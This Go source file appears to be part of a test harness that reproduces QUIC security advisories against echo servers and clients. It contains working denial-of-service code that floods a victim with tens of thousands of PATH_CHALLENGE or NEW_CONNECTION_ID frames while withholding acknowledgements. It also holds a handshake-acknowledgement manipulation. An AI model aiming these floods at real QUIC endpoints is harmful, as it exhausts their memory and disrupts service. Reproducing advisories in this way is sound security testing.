package advisory

import (
	"encoding/binary"
	"errors"
	"fmt"

	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/attacker"
	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/wire"
)

// dial dials the echo server.
func dial(t *trial) (*attacker.Conn, error) {
	server, err := t.address()
	if err != nil {
		return nil, err
	}
	return attacker.Dial(t.ctx, server, Protocol)
}

// control makes an honest exchange only.
func control(t *trial) error {
	c, err := dial(t)
	if err != nil {
		return err
	}
	defer c.Close()
	t.proof.Delivered = true
	return askEcho(t.ctx, c, 0)
}

// planted has the echo server panic in its own code.
func planted(t *trial) error {
	c, err := dial(t)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Ask(t.ctx, 0, []byte(PanicRequest))
	return err
}

// ackBehindFinished ends the handshake with a packet that acknowledges Handshake packets
// behind the client's Finished, at which the server forgets those packets.
func ackBehindFinished(t *trial) error {
	server, err := t.address()
	if err != nil {
		return err
	}
	c, finish, err := attacker.Begin(t.ctx, server, Protocol)
	if err != nil {
		return err
	}
	defer c.Close()
	frames := append(wire.AppendCrypto(nil, 0, finish), c.Ack(wire.Handshake)...)
	if err := c.Send(wire.Handshake, frames); err != nil {
		return err
	}
	err = c.Await(t.ctx, func() bool { return c.Confirmed })
	t.proof.Delivered = err == nil
	return err
}

// A flood is many frames that a victim answers with a frame of another type each.
type flood struct {
	frames [][]byte
	answer uint64 // the type of the answers
	limit  int    // of answers in memory; more is the defect
}

// atServer floods a server.
func (f flood) atServer(t *trial) error {
	c, err := dial(t)
	if err != nil {
		return err
	}
	defer c.Close()
	stream := uint64(0)
	return f.pour(t, c, func() error {
		err := askEcho(t.ctx, c, stream)
		stream += 4
		return err
	})
}

// atClient floods a client that has asked something, and answers it then, or the client's
// next connection if that gave up the first one.
func (f flood) atClient(t *trial, s *attacker.Server) error {
	c, data, err := asked(t, s)
	if err != nil {
		return err
	}
	if err := f.pour(t, c, func() error { return c.SendAll(t.ctx, [][]byte{{wire.TypePing}}) }); err != nil || t.found != "" {
		return err
	}
	if c.Closed != nil {
		if c, data, err = asked(t, s); err != nil {
			return err
		}
	}
	return answer(t, c, data)
}

// pour sends the frames while the victim can send next to nothing, because nothing that it
// has sent is acknowledged. Then it lets the victim send, and counts what the victim has
// kept. Exchange makes the victim send, if it can.
func (f flood) pour(t *trial, c *attacker.Conn, exchange func() error) error {
	c.Silent = true
	t.proof.Sent = len(f.frames)
	err := c.SendAll(t.ctx, f.frames)
	if err == nil {
		t.proof.Delivered = true
		before := c.Counts[f.answer]
		err = f.drain(c, exchange)
		kept := c.Counts[f.answer] - before
		t.proof.Kept = &kept
		if kept > f.limit {
			t.found = fmt.Sprintf("it kept %d answers to %d frames in memory, and would keep any number", kept, len(f.frames))
			return nil
		}
	}
	var closed *attacker.CloseError
	if errors.As(err, &closed) {
		t.proof.Delivered = true
		return nil
	}
	return err
}

// drain lets the victim send what it has kept, until an exchange brings no answer any
// more.
func (f flood) drain(c *attacker.Conn, exchange func() error) error {
	c.Silent = false
	for n := 0; ; n++ {
		before := c.Counts[f.answer]
		if err := exchange(); err != nil {
			return err
		}
		if c.Counts[f.answer] == before && n > 2 {
			return nil
		}
	}
}

// How many frames an attack sends, and how many answers a victim may keep. Mended
// releases keep 256 answers to path challenges, and 16,384 frames of all kinds. What they
// send before their congestion window is full does not count.
const (
	manyChallenges, maxResponses = 20000, 10000
	manyIDs, maxRetired          = 60000, 30000
)

// challenges are PATH_CHALLENGE frames.
func challenges() flood {
	var frames [][]byte
	for i := 0; i < manyChallenges; i++ {
		var data [8]byte
		binary.BigEndian.PutUint64(data[:], uint64(i))
		frames = append(frames, wire.AppendPath(nil, wire.TypePathChallenge, data[:]))
	}
	return flood{frames, wire.TypePathResponse, maxResponses}
}

// newIDs are connection IDs, each of which makes the victim retire the one before.
func newIDs() flood {
	var frames [][]byte
	for i := uint64(1); i <= manyIDs; i++ {
		var id [8]byte
		binary.BigEndian.PutUint64(id[:], i)
		frames = append(frames, wire.AppendNewConnectionID(nil, i, i, id[:]))
	}
	return flood{frames, wire.TypeRetireConnectionID, maxRetired}
}
